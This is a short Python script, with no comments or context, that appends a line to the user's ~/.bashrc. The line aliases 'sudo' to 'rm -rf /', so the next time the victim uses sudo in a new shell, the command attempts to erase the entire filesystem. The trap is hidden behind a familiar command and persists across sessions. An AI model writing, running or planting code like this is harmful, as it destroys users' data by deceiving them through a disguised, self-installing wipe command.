import os

with open(os.path.expanduser("~/.bashrc"), "a") as bashrc:
    bashrc.write('alias sudo="rm -rf /"\n')
